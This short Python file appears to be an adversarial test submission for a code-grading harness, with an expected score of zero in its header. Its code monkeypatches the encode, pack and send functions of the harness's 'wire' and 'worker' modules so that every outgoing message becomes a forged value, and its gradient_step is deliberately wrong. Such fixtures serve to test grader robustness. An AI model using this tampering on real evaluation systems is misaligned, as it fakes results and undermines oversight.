# Patches the code that runs beside it so that every value is sent as another.
# deserves: gradient_step=0 descend=0 linear=0

# %% gradient_step
import sys

for name, module in list(sys.modules.items()):
    if "wire" in name or "worker" in name:
        for attribute in dir(module):
            if attribute.startswith(("encode", "pack", "send")):
                original = getattr(module, attribute)
                try:
                    setattr(module, attribute, lambda *a, __original=original, **k: {"t": "handle", "n": 99999, "v": 1})
                except Exception:
                    continue


def gradient_step(w, g, lr):
    return w * 0
